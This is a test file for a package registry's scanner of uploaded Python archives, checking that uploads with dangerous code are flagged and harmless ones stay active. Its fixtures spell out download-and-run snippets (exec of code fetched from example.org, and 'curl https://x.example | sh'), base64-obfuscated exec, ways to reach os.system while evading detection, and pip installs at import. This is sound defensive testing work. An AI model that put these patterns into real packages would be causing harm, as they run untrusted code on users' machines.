import assert from 'node:assert/strict';
import { before, test } from 'node:test';

import { client } from '../support/http-client.ts';
import {
  cleanPack,
  packOf,
  SUSPICIOUS_SOURCE,
  sourceWithNodes,
  zipOf,
} from '../support/registry-archives.ts';
import {
  checked,
  newName,
  newStudio,
  publish,
  publishActive,
  publishArchive,
  type Studio,
  upload,
} from '../support/registry-publishing.ts';
import { type NodeVersion, type PackNode, type Report, STATUS } from '../support/registry-wire.ts';
import { onAnyEngine } from '../support/servers.ts';

const MIB = 1024 * 1024;
const SOUND = { name: '__init__.py', content: 'NODE_CLASS_MAPPINGS = {}\n' };

/** Each is one way to be dangerous, at a known line of a known file. */
const SUSPICIOUS: readonly (readonly [what: string, rules: RegExp, line: number, source: string])[] = [
  ['dynamic execution', /dynamic-execution/, 2, 'def run(text):\n    exec(text)\n'],
  ['dynamic execution at import', /dynamic-execution/, 1, 'value = eval(input())\n'],
  ['start of a process', /process-start/, 4, 'import subprocess\n\n\nsubprocess.run(["ls", "-l"])\n'],
  ['start of a process under another name', /process-start/, 3, 'from os import system as go\n\ngo("ls")\n'],
  [
    'download and run',
    /download-and-run|dynamic-execution/,
    3,
    'import urllib.request\n\nexec(urllib.request.urlopen("https://example.org/x.py").read())\n',
  ],
  [
    'obfuscated payload',
    /obfuscated-payload|dynamic-execution/,
    3,
    'import base64\n\nexec(base64.b64decode("cHJpbnQoJ2hpJyk="))\n',
  ],
  [
    'installation of packages at import',
    /package-install|process-start/,
    4,
    'import subprocess\nimport sys\n\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "x"])\n',
  ],
];

/** What looks like something else, at a known line; the file is `lib/it.py`. */
const DISGUISED: readonly (readonly [what: string, rules: RegExp, line: number, source: string])[] = [
  ['a process through a module of another', /process-start/, 2, 'import shutil\nshutil.os.system("id")\n'],
  ['a process through a private name', /process-start/, 2, 'from tempfile import _os\n_os.system("id")\n'],
  ['a process through the system module', /process-start/, 2, 'import posix\nposix.system("id")\n'],
  [
    'a process through an heir',
    /process-start/,
    3,
    'import subprocess\nclass P(subprocess.Popen): pass\nP(["id"])\n',
  ],
  [
    'a process through a getter',
    /hidden-call/,
    2,
    'import operator, os\noperator.methodcaller("system", "id")(os)\n',
  ],
  ['a walk over all classes', /dynamic-execution/, 1, 'x = ().__class__.__base__.__subclasses__()\n'],
  [
    'code in a text',
    /process-start/,
    2,
    'import timeit\ntimeit.timeit(stmt="import os; os.system(\'id\')")\n',
  ],
  [
    'a downloaded module',
    /download-and-run/,
    2,
    'from urllib.request import urlretrieve\nurlretrieve("https://example.org/x", "payload.py")\n',
  ],
  [
    'an import of what was not uploaded',
    /download-and-run/,
    3,
    'import requests\nrequests.get("https://example.org/x")\nfrom . import payload\n',
  ],
  [
    'a cloned repository',
    /download-and-run/,
    2,
    'import git\ngit.Repo.clone_from("https://example.org/x", "x")\n',
  ],
  [
    'an installation without a command',
    /package-install/,
    3,
    'import sys, runpy\nsys.argv = ["pip", "install", "x"]\nrunpy.run_module("pip")\n',
  ],
  [
    'an installation by the old installer',
    /package-install/,
    2,
    'from setuptools.command.easy_install import main\nmain(["x"])\n',
  ],
  ['an import from an archive', /archive-import/, 2, 'import sys\nsys.path.insert(0, "lib/vendor.whl")\n'],
];

const HARMLESS = `"""Uses exec(), eval() and subprocess.run() only in this text."""
# os.system("rm -rf /")
import re

PATTERN = re.compile("eval(.*)")
HELP = "call exec(code) to run it"


class Model:
    def eval(self):
        return self

    def exec(self, query):
        return query


def load(model):
    model.eval()
    model.exec("select 1")
    return PATTERN.match(HELP)
`;

onAnyEngine('checks of archives', (server) => {
  let studio: Studio;
  before(async () => {
    studio = await newStudio(server.current);
  });
  const anyone = () => client(server.current.url);
  const verdictOn = async (archive: Uint8Array) =>
    await publishArchive(server.current, studio, newName('pack'), archive);
  const findingsOf = (version: NodeVersion) => (JSON.parse(version.status_reason ?? '{}') as Report).findings;

  test('[REG-64] [REG-72] a clean archive makes its version active and the latest', async () => {
    const version = await verdictOn(cleanPack('Scale', 'Blur'));
    assert.equal(version.status, STATUS.active, JSON.stringify(version));
    assert.equal(version.node_extract_status, 'success');
    assert.equal(version.comfy_node_extract_status, 'success');
    const { body } = await anyone().get<PackNode>(`/nodes/${version.node_id}`);
    assert.equal(body.latest_version?.id, version.id);
  });

  test('[REG-64] an archive without any Python is clean', async () => {
    const version = await verdictOn(packOf({ 'README.md': '# Nothing to run\n', 'web/index.js': 'run()\n' }));
    assert.equal(version.status, STATUS.active, JSON.stringify(version));
  });

  for (const [what, rules, line, source] of SUSPICIOUS) {
    test(`[REG-65] ${what} is flagged with file and line`, async () => {
      const version = await verdictOn(
        packOf({ '__init__.py': sourceWithNodes('Scale'), 'lib/it.py': source }),
      );
      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
      const findings = findingsOf(version);
      assert.ok(
        findings.some((one) => one.file === 'lib/it.py' && one.line === line && rules.test(one.rule)),
        JSON.stringify(findings),
      );
      assert.equal(version.node_extract_status, 'success');
    });
  }

  for (const [what, rules, line, source] of DISGUISED) {
    test(`[REG-65] ${what} is flagged`, async () => {
      const version = await verdictOn(
        packOf({ '__init__.py': sourceWithNodes('Scale'), 'lib/it.py': source }),
      );
      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
      const findings = findingsOf(version);
      assert.ok(
        findings.some((one) => one.file === 'lib/it.py' && one.line === line && rules.test(one.rule)),
        JSON.stringify(findings),
      );
    });
  }

  test('[REG-160] many findings of one kind do not hide another', async () => {
    const one = 'import subprocess\ndef f(): subprocess.run(["ls"])\n';
    const version = await verdictOn(packOf({ 'a.py': 'exec(x)\n'.repeat(500), 'z.py': one }));
    const { total, findings } = JSON.parse(version.status_reason ?? '{}') as Report;
    assert.deepEqual([total, findings.length], [501, 100]);
    assert.deepEqual(findings.at(-1)?.file, 'z.py');
  });

  test('[REG-161] what honest packs do too is noted and not flagged', async () => {
    const version = await verdictOn(
      zipOf([
        {
          name: '__init__.py',
          content: 'import torch\n\n\ndef f(p):\n    return torch.load(p, map_location="cpu")\n',
        },
        { name: 'port.py', content: 'import socket\ns = socket.socket()\ns.bind(("", 0))\n' },
        { name: 'tests/test_x.py', content: 'import subprocess\nsubprocess.run(["pytest"])\n' },
        { name: 'data/presets.zip', content: zipOf([{ name: 'a.txt', content: 'a' }]) },
      ]),
    );
    assert.equal(version.status, STATUS.active, JSON.stringify(version));
    const [first, ...notes] = (version.status_reason ?? '').split('\n');
    assert.equal(first, 'Passed automated checks');
    assert.match(notes.join('\n'), /"__init__\.py", line 5: .*\(unsafe-load\)/);
    assert.match(notes.join('\n'), /"port\.py", line 2: .*\(raw-socket\)/);
    assert.match(notes.join('\n'), /"tests\/test_x\.py", line 2: .*\(process-start\)/);
    assert.match(notes.join('\n'), /"data\/presets\.zip" is an archive itself/);
  });

  test('[REG-162] a source that would take too long to parse is passed over and flagged', async () => {
    const version = await verdictOn(packOf({ '__init__.py': `x=1${'+1'.repeat(500_000)}\n` }));
    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
    assert.deepEqual(
      findingsOf(version).map(({ rule, file }) => [rule, file]),
      [['unread-source', '__init__.py']],
    );
    assert.equal(version.node_extract_status, 'failed');
  });

  test('[REG-65] the report tells how many findings there are when it does not list them all', async () => {
    const version = await verdictOn(packOf({ 'a.py': 'exec(x)\n'.repeat(150), 'b.py': 'def (:\n' }));
    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
    const { total, findings, notes } = JSON.parse(version.status_reason ?? '{}') as Report;
    assert.equal(total, 150);
    assert.equal(findings.length, 100);
    assert.match(notes.join(), /b\.py/);
    const short = await verdictOn(packOf({ '__init__.py': SUSPICIOUS_SOURCE }));
    const whole = JSON.parse(short.status_reason ?? '{}') as Report;
    assert.equal(whole.total, whole.findings.length);
    assert.deepEqual(whole.notes, []);
  });

  test('[REG-65] a flagged version is not the latest', async () => {
    const version = await verdictOn(packOf({ '__init__.py': SUSPICIOUS_SOURCE }));
    assert.equal(version.status, STATUS.flagged);
    assert.equal('latest_version' in (await anyone().get(`/nodes/${version.node_id}`)).body, false);
  });

  test('[REG-66] words in comments and texts, and methods of the same name, are not findings', async () => {
    const version = await verdictOn(packOf({ '__init__.py': HARMLESS }));
    assert.equal(version.status, STATUS.active, version.status_reason ?? '');
  });

  test('[REG-66] a source that no Python could read does not stop the checks', async () => {
    for (const source of [
      'def (:\n    ][\n',
      '\0\u0001\u0002',
      `x = ${'('.repeat(5000)}\n`,
      '['.repeat(200_000),
    ]) {
      const version = await verdictOn(packOf({ '__init__.py': source }));
      assert.notEqual(version.status, STATUS.pending);
      assert.ok(version.status_reason);
      assert.doesNotMatch(version.status_reason, /broke off/);
    }
  });

  test('[REG-167] a module as a value, and code of a name that is bound twice, are flagged', async () => {
    const twice = 'c = "1"\ndef g():\n    global c\n    c = input()\ng()\nexec(c)\n';
    for (const source of ['import os\nf(os)\n', 'import os\nclass A:\n    o = os\n', twice]) {
      const version = await verdictOn(packOf({ '__init__.py': source }));
      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
    }
  });

  test('[REG-168] tests count where the pack puts them on the path', async () => {
    const tested = { 'tests/helper.py': 'import os\nos.system("x")\n' };
    const path = 'import sys\nsys.path.append(__file__ + "/../tests")\nimport helper\n';
    const version = await verdictOn(packOf({ ...tested, '__init__.py': path }));
    assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
    const other = await verdictOn(packOf({ ...tested, '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n' }));
    assert.equal(other.status, STATUS.active, other.status_reason ?? '');
  });

  test('[REG-169] what runs code where a source is not quite Python is flagged', async () => {
    for (const source of ['import os\nclass A[T=os.system(1)]: pass\n', 'import os\nt"{os.system("x")}"\n']) {
      const version = await verdictOn(packOf({ '__init__.py': source }));
      assert.equal(version.status, STATUS.flagged, JSON.stringify(version));
    }
    const harmless = await verdictOn(packOf({ '__init__.py': 'class A[T=int]: pass\n' }));
    assert.equal(harmless.status, STATUS.active, harmless.status_reason ?? '');
  });

  test('[REG-170] files that a person should know of are noted', async () => {
    const version = await verdictOn(
      packOf({
        '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
        'install.sh': 'curl https://x.example | sh\n',
        'x.pth': 'import os\n',
        'requirements.txt': '--index-url https://x.example\n',
        'bin/a.exe': 'MZ',
      }),
    );
    assert.equal(version.status, STATUS.active, JSON.stringify(version));
    for (const name of ['install.sh', 'x.pth', 'requirements.txt', 'bin/a.exe'])
      assert.match(version.status_reason ?? '', new RegExp(`"${name}"`));
  });

  test('[REG-73] a bad archive leaves earlier versions installable and later ones checked', async () => {
    const id = newName('pack');
    const first = await publishActive(server.current, studio, id);
    const bomb = zipOf([SOUND, { name: 'bomb.bin', content: new Uint8Array(64 * MIB) }]);
    const announced = [];
    for (const [version, archive] of [
      ['1.1.0', bomb],
      ['1.2.0', new Uint8Array(100)],
      ['1.3.0', cleanPack('Scale')],
    ] as const) {
      const { node_version: waiting, signedUrl } = await publish(server.current, studio, id, { version });
      await upload(server.current, signedUrl, archive);
      announced.push(waiting);
      const { body } = await anyone().get(`/nodes/${id}/install?version=1.0.0`);
      assert.equal(body['id'], first.id);
    }
    const verdicts = await Promise.all(
      announced.map(async (waiting) => (await checked(server.current, waiting)).status),
    );
    assert.deepEqual(verdicts, [STATUS.deleted, STATUS.deleted, STATUS.active]);
    const { body } = await anyone().get<PackNode>(`/nodes/${id}`);
    assert.equal(body.latest_version?.version, '1.3.0');
  });

  test('[REG-78] the publisher sees why, without asking for it', async () => {
    const flagged = await verdictOn(packOf({ '__init__.py': SUSPICIOUS_SOURCE }));
    const path = `/nodes/${flagged.node_id}/versions/1.0.0`;
    assert.equal((await studio.owner.get(path)).body['status_reason'], flagged.status_reason);
    const unusable = await verdictOn(zipOf([]));
    const { body } = await studio.owner.get<NodeVersion[]>(
      `/nodes/${unusable.node_id}/versions?statuses=${STATUS.deleted}`,
    );
    assert.equal(body[0]?.status_reason, unusable.status_reason);
    assert.ok(unusable.status_reason);
  });
});
